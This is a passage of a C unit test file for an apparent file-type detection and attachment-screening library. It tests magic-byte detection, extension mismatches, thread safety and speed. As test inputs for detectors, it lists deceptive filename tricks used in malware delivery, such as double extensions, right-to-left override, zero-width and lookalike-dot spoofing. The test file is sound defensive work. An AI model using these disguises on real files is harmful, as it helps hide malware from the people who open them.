			print_error("prefix %zu of %zu: got %s, want %s\n", k, n, t->name, want);
			fail();
		}
		g_free(c);
	}
}

static void
test_truncated(void **state)
{
	(void)state;
	size_t n;
	uint8_t *b = load_data("excel4_sample_macro.xlsm", &n);
	/* the macro sheet's local header is complete at 3138 bytes */
	prefixes(b, n, "xlsm", 3138);
	assert_string_equal(ftype_detect(b, 3137, n, NULL, 0)->name, "xlsx");
	assert_string_equal(detect_name(b, n), "xlsm");
	g_free(b);
	b = load_data("excel4_sample_macro.xls", &n);
	prefixes(b, n, "ole2", 8);
	g_free(b);
	b = load_data("test_password.7z", &n);
	prefixes(b, n, "7z", 6);
	g_free(b);
	if (g_file_test(CLAMAV_DIR "/clam.exe", G_FILE_TEST_EXISTS)) {
		b = load(CLAMAV_DIR "/clam.exe", &n);
		prefixes(b, n, "pe", 0x40);
		g_free(b);
		b = load(CLAMAV_DIR "/clam.mail", &n);
		prefixes(b, n, "email", 200);
		g_free(b);
		b = load(CLAMAV_DIR "/clam.pdf", &n);
		prefixes(b, n, "pdf", 5);
		g_free(b);
	}
}

/* ---- extensions and mismatches ---- */

static void
test_extensions(void **state)
{
	(void)state;
	const struct {
		const char *name, *want;
	} cases[] = {
		{ "a.exe", "pe" }, { "A.EXE", "pe" }, { "x.scr", "pe" }, { "x.tar.gz", "gzip" },
		{ "x.docm", "docm" }, { "x.XLSB", "xlsb" }, { "x.one", "onenote" },
		{ "x.settingcontent-ms", "settingcontent" }, { "x.iso", "iso" },
		{ "x.jpg", "jpeg" }, { "x.txt", "text" }, { "x.csv", "csv" },
		{ "x.exe.", "pe" }, { "x.exe  ", "pe" }, { "見積書.pdf", "pdf" },
		{ "noext", NULL }, { ".bashrc", NULL }, { "x.", NULL }, { "x.qqq", NULL },
		{ "dir.d/file", NULL }, { "", NULL },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		const struct ftype *t = ftype_from_extension(cases[i].name);
		const char *got = t != NULL ? t->name : NULL;
		if ((got == NULL) != (cases[i].want == NULL) ||
		    (got != NULL && strcmp(got, cases[i].want) != 0)) {
			print_error("%s: got %s want %s\n", cases[i].name, got ? got : "NULL",
			    cases[i].want ? cases[i].want : "NULL");
			fail();
		}
	}
	assert_null(ftype_from_extension(NULL));
}

static void
test_mismatch(void **state)
{
	(void)state;
	const struct {
		const char *claimed, *actual;
		bool want;
	} cases[] = {
		{ "pdf", "pe", true }, { "docx", "js", true }, { "jpeg", "lnk", true },
		{ "text", "hta", true }, { "text", "vbs", true }, { "pdf", "msi", true },
		{ "doc", "msi", true }, { "docx", "jar", true }, { "pdf", "iso", true },
		{ "zip", "iso", false }, { "iso", "udf", false }, { "pe", "bat", false },
		{ "pe", "elf", false }, { "js", "text", false },
		{ "docx", "zip", false }, { "docx", "ooxml", false }, { "zip", "docx", false },
		{ "xlsx", "xlsm", false }, { "docx", "ole2", false }, { "doc", "xls", false },
		{ "doc", "rtf", false }, { "doc", "html", false }, { "xls", "html", false },
		{ "xls", "text", false }, { "doc", "docx", false }, { "odt", "zip", false },
		{ "jpeg", "png", false }, { "png", "gif", false }, { "text", "html", false },
		{ "xml", "html", false }, { "text", "email", false }, { "csv", "text", false },
		{ "html", "xml", false }, { "zip", "7z", false }, { "gzip", "tar", false },
		{ "zip", "pdf", false }, { "pdf", "jpeg", false },
		{ "pdf", "zip", true }, { "pdf", "7z", true }, { "pdf", "html", true },
		{ "jpeg", "html", true }, { "jpeg", "svg", true }, { "jpeg", "rar", true },
		{ "onenote", "zip", true }, { "doc", "rar", true }, { "text", "zip", true },
		{ "pdf", "pdf", false }, { "pdf", "unknown", false }, { "pdf", "empty", false },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		const struct ftype *c = ftype_by_name(cases[i].claimed);
		const struct ftype *a = ftype_by_name(cases[i].actual);
		assert_non_null(c);
		assert_non_null(a);
		if (ftype_mismatch(c, a) != cases[i].want) {
			print_error("mismatch(%s, %s) != %d\n", cases[i].claimed, cases[i].actual,
			    cases[i].want);
			fail();
		}
	}
	assert_false(ftype_mismatch(NULL, ftype_by_name("pe")));
	assert_false(ftype_mismatch(ftype_by_name("pe"), NULL));
}

static void
test_table(void **state)
{
	(void)state;
	size_t n = 0;
	const struct ftype *t = ftype_table(&n);
	assert_true(n > 60);
	for (size_t i = 0; i < n; i++) {
		assert_non_null(t[i].name);
		assert_non_null(t[i].mime);
		assert_non_null(t[i].label);
		assert_non_null(t[i].exts);
		assert_ptr_equal(ftype_by_name(t[i].name), &t[i]);
		for (const char *c = t[i].name; *c; c++)
			assert_false(g_ascii_isupper(*c));
		/* each extension maps back to this type (no duplicates) */
		for (const char *const *e = t[i].exts; *e != NULL; e++) {
			char *f = g_strconcat("f.", *e, NULL);
			assert_ptr_equal(ftype_from_extension(f), &t[i]);
			g_free(f);
		}
	}
	assert_null(ftype_by_name("nope"));
	assert_null(ftype_by_name(NULL));
	const char *ids[] = { "pe", "elf", "macho", "msi", "js", "vbs", "wsf", "hta", "ps1",
		"bat", "sh", "lnk", "url", "onenote", "iso", "udf", "img", "vhd", "vhdx", "chm",
		"ole2", "doc", "xls", "ppt", "docx", "docm", "xlsx", "xlsm", "xlsb", "pptx",
		"pptm", "ooxml", "rtf", "odt", "ods", "odp", "pdf", "html", "svg", "xml", "zip",
		"7z", "rar", "tar", "gzip", "bzip2", "xz", "zstd", "lzma", "cab", "cpio", "arj",
		"lha", "ace", "email", "mbox", "tnef", "szdd", "kwaj", "binhex", "uuencode", "png", "jpeg",
		"gif", "bmp", "tiff", "ico", "webp", "text", "empty", "unknown" };
	for (size_t i = 0; i < G_N_ELEMENTS(ids); i++)
		assert_non_null(ftype_by_name(ids[i]));
	assert_true(ftype_by_name("hta")->flags & FT_SCRIPT);
	assert_true(ftype_by_name("hta")->flags & FT_MARKUP);
	assert_true(ftype_by_name("docm")->flags & FT_MACRO_CAPABLE);
	assert_false(ftype_by_name("docx")->flags & FT_MACRO_CAPABLE);
}

/* ---- file names ---- */

static void
test_double_extension(void **state)
{
	(void)state;
	const struct {
		const char *name;
		bool want;
		const char *decoy, *real;
	} cases[] = {
		{ "invoice.pdf.exe", true, "pdf", "exe" },
		{ "scan.jpg   .scr", true, "jpg", "scr" },
		{ "doc.docx.js", true, "docx", "js" },
		{ "Invoice.PDF.Exe", true, "pdf", "exe" },
		{ "photo.jpg______.zip", true, "jpg", "zip" },
		{ "a.pdf.lnk", true, "pdf", "lnk" },
		{ "a.doc.hta", true, "doc", "hta" },
		{ "a.txt.iso", true, "txt", "iso" },
		{ "a.pdf.exe.", true, "pdf", "exe" },
		{ "archive.tar.gz", false, NULL, NULL },
		{ "backup.2024.zip", false, NULL, NULL },
		{ "v1.2.exe", false, NULL, NULL },
		{ "report.final.docx", false, NULL, NULL },
		{ "report.pdf", false, NULL, NULL },
		{ "setup.exe", false, NULL, NULL },
		{ "a.exe.pdf", false, NULL, NULL },
		{ "見積書.pdf", false, NULL, NULL },
		{ "請求書_2024.12.xlsx", false, NULL, NULL },
		{ ".pdf.exe", false, NULL, NULL },
		{ "", false, NULL, NULL },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		char d[16] = "", r[16] = "";
		bool got = fname_double_extension(cases[i].name, d, sizeof d, r, sizeof r);
		if (got != cases[i].want) {
			print_error("%s: got %d\n", cases[i].name, got);
			fail();
		}
		if (got) {
			assert_string_equal(d, cases[i].decoy);
			assert_string_equal(r, cases[i].real);
		}
	}
	assert_true(fname_double_extension("a.pdf.exe", NULL, 0, NULL, 0));
	assert_false(fname_double_extension(NULL, NULL, 0, NULL, 0));
	char tiny[2];
	assert_true(fname_double_extension("a.pdf.exe", tiny, sizeof tiny, NULL, 0));
	assert_string_equal(tiny, "p");
}

static void
test_deceptive(void **state)
{
	(void)state;
	const struct {
		const char *name, *want;
	} cases[] = {
		{ "invoice\u202Egpj.exe", "rtlo" },
		{ "a\u202Dx\u202Egpj.exe", "rtlo" },
		{ "a\u2067b.pdf", "bidi_control" },
		{ "a\u200Fb.pdf", "bidi_control" },
		{ "a\u061Cb.pdf", "bidi_control" },
		{ "inv\u200Boice.pdf.exe", "zero_width" },
		{ "\uFEFFa.pdf", "zero_width" },
		{ "invoice\u2024pdf", "lookalike_dot" },
		{ "invoice\uFF0Epdf.exe", "lookalike_dot" },
		{ "a\u2215b.exe", "lookalike_dot" },
		{ "a\u2044b.exe", "lookalike_dot" },
		{ "invoice.pdf                    .exe", "padding_spaces" },
		{ "invoice.pdf\u3000\u3000\u3000\u3000\u3000.exe", "padding_spaces" },
		{ "bad\xC3(.pdf", "invalid_utf8" },
		{ "\xFF\xFE", "invalid_utf8" },
		{ "見積書.pdf", NULL },
		{ "請求書_2024.12.xlsx", NULL },
		{ "議事録\u3000第２回.docx", NULL },
		{ "Ａ／Ｂ比較表.xlsx", NULL },
		{ "ver．２資料.pdf", NULL },
		{ "report.final.docx", NULL },
		{ "archive.tar.gz", NULL },
		{ "my  file  name.txt", NULL },
		{ "", NULL },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		const char *got = fname_deceptive(cases[i].name);
		if ((got == NULL) != (cases[i].want == NULL) ||
		    (got != NULL && strcmp(got, cases[i].want) != 0)) {
			char *e = fname_escape(cases[i].name);
			print_error("%s: got %s want %s\n", e, got ? got : "NULL",
			    cases[i].want ? cases[i].want : "NULL");
			g_free(e);
			fail();
		}
	}
	assert_null(fname_deceptive(NULL));
}

static void
test_escape(void **state)
{
	(void)state;
	char *e = fname_escape("invoice\u202Egpj.exe");
	assert_string_equal(e, "invoice\\u202egpj.exe");
	g_free(e);
	e = fname_escape("a\\b\tc\xFF\xF0\x9F\x98\x80");
	assert_string_equal(e, "a\\\\b\\u0009c\\xff\\U0001f600");
	g_free(e);
	e = fname_escape("見");
	assert_string_equal(e, "\\u898b");
	g_free(e);
	assert_null(fname_escape(NULL));
}

/* ---- threads and speed ---- */

struct job {
	const uint8_t *p[4];
	size_t n[4];
	const char *want[4];
	int bad;
};

static void *
worker(void *arg)
{
	struct job *j = arg;
	char desc[128];
	for (int i = 0; i < 300; i++) {
		int k = i % 4;
		const struct ftype *t = ftype_detect(j->p[k], j->n[k], j->n[k],
		    (i & 1) ? desc : NULL, sizeof desc);
		if (strcmp(t->name, j->want[k]) != 0)
			__atomic_add_fetch(&j->bad, 1, __ATOMIC_RELAXED);
	}
	return NULL;
}

static void
test_threads(void **state)
{
	(void)state;
	size_t n1, n2;
	uint8_t *x = load_data("excel4_sample_macro.xls", &n1);
	uint8_t *z = load_data("test_password.7z", &n2);
	static const uint8_t szdd[] = "SZDD\x88\xF0\x27\x33\x41\0\x20\x02\0\0\xff\0\0\0";
	struct job j = {
		{ x, z, (const uint8_t *)"hello world\n", szdd },
		{ n1, n2, 12, sizeof szdd - 1 },
		{ "xls", "7z", "text", ftype_detect(szdd, sizeof szdd - 1, sizeof szdd - 1,
		    NULL, 0)->name },
		0,
	};
	pthread_t th[8];
	for (int i = 0; i < 8; i++)
		assert_int_equal(pthread_create(&th[i], NULL, worker, &j), 0);
	for (int i = 0; i < 8; i++)
		pthread_join(th[i], NULL);
	assert_int_equal(j.bad, 0);
	g_free(x);
	g_free(z);
}

static double
ns_per_call(const uint8_t *p, size_t n, bool with_desc)
{
	char desc[256];
	int iters = with_desc ? 2000 : 200000;
	struct timespec a, b;
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (int i = 0; i < iters; i++)
		(void)ftype_detect(p, n, n, with_desc ? desc : NULL, sizeof desc);
	clock_gettime(CLOCK_MONOTONIC, &b);
	double ns = (double)(b.tv_sec - a.tv_sec) * 1e9 + (double)(b.tv_nsec - a.tv_nsec);
	return ns / iters;
}

/* Prints the figures; fails only when the hot path is absurdly slow. */
static void
test_speed(void **state)
{
	(void)state;
	GString *pdf = g_string_new("%PDF-1.5\n%\xE2\xE3\xCF\xD3\n");
	while (pdf->len < 64 * 1024)
		g_string_append(pdf, "1 0 obj << /Type /Page /Contents 2 0 R >> endobj\n");
	GString *txt = g_string_new(NULL);
	while (txt->len < 64 * 1024)
		g_string_append(txt, "Dear customer, please find the attached quotation for "
		    "the items we discussed on the phone yesterday.\r\n");
	double a = ns_per_call((const uint8_t *)pdf->str, pdf->len, false);
	double b = ns_per_call((const uint8_t *)txt->str, txt->len, false);
	double c = ns_per_call((const uint8_t *)pdf->str, pdf->len, true);
	fprintf(stderr, "ftype_detect: pdf %.0f ns, text %.0f ns, pdf with desc %.0f ns\n",
	    a, b, c);
	assert_true(a < 100000.0 && b < 1000000.0);
	g_string_free(pdf, TRUE);
	g_string_free(txt, TRUE);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clamav_files),
		cmocka_unit_test(test_office_flat),
		cmocka_unit_test(test_data_files),
		cmocka_unit_test(test_elf),
		cmocka_unit_test(test_pe_built),
		cmocka_unit_test(test_macho),
		cmocka_unit_test(test_ole2_kinds),
		cmocka_unit_test(test_zip_family),
		cmocka_unit_test(test_disk_images),
		cmocka_unit_test(test_iso_xorriso),
		cmocka_unit_test(test_small_signatures),
		cmocka_unit_test(test_markup),
		cmocka_unit_test(test_mail),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_no_script_false_positives),
		cmocka_unit_test(test_empty_and_unknown),
		cmocka_unit_test(test_truncated),
		cmocka_unit_test(test_extensions),
		cmocka_unit_test(test_mismatch),
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_double_extension),
		cmocka_unit_test(test_deceptive),
		cmocka_unit_test(test_escape),
		cmocka_unit_test(test_threads),
		cmocka_unit_test(test_speed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
